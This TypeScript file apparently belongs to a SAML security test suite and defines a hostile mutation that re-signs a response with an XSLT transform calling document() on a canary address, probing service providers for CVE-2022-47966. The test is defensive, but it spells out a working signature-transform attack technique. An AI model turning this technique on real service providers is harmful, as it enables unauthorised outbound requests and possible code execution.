import { defineMutation, type MutationContext } from '../../model/mutation.ts';
import { digestText } from '../../saml/algorithms.ts';
import { ALG } from '../../saml/namespaces.ts';
import { refs } from '../kit/attack-refs.ts';
import { canaryOf } from '../kit/attack-tools.ts';
import { escapeXml } from '../kit/edit.ts';
import { bySigner, signAgain } from '../kit/forge.ts';
import { stylesheet, XSLT } from './_stylesheets.ts';

function fetchBy(xml: string, context: MutationContext): string {
  const address = escapeXml(canaryOf(context));
  const content = stylesheet(`<xsl:copy-of select="document('${address}')"/>`);
  return signAgain(xml, {
    parts: ({ id }) => ({
      references: [
        {
          uri: `#${id}`,
          transforms: [ALG.enveloped, { algorithm: XSLT, content }],
          digestValues: [digestText(ALG.sha256, '')],
        },
      ],
    }),
    fill: bySigner(context, 'stranger'),
  });
}

export default defineMutation({
  id: 'transforms/xslt-fetch',
  title: 'A stylesheet in a transform fetches an address',
  stage: 'after-signing',
  change: { on: 'response', apply: fetchBy },
  breaks: ['signature/key-info', 'signature/transforms'],
  hostile: true,
  safe: 'refuses',
  refs: [refs.twoTransforms],
  cves: ['CVE-2022-47966'],
  attack: {
    against: 'sp',
    mechanism:
      'References are often validated before the key is asked: a stylesheet in a transform then runs for anybody. This one opens an address; others have run programs.',
    weakness: ['external-entities-fetched', 'any-transform'],
    watch: 'fetched',
  },
});
